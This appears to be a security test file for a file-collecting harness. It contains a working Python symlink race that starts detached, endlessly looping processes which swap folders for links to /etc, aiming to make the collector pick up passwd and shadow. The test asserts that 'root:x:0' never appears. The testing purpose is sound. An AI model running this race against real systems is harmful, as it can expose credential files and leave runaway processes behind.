# attack: swaps folders for links to the system while they are collected
# verdict: completed
# prints: made
# never prints: root:x:0
# files: *
import os

for number in range(20):
    os.mkdir(f"folder-{number}")
    for name in ("passwd", "group", "shadow", "hosts"):
        with open(f"folder-{number}/{name}", "w") as file:
            file.write("x" * 1000)
for number in range(4):
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        while True:
            for number in range(20):
                try:
                    os.rename(f"folder-{number}", f"hidden-{number}")
                    os.symlink("/etc", f"folder-{number}")
                    os.unlink(f"folder-{number}")
                    os.rename(f"hidden-{number}", f"folder-{number}")
                except OSError:
                    pass
print("made")
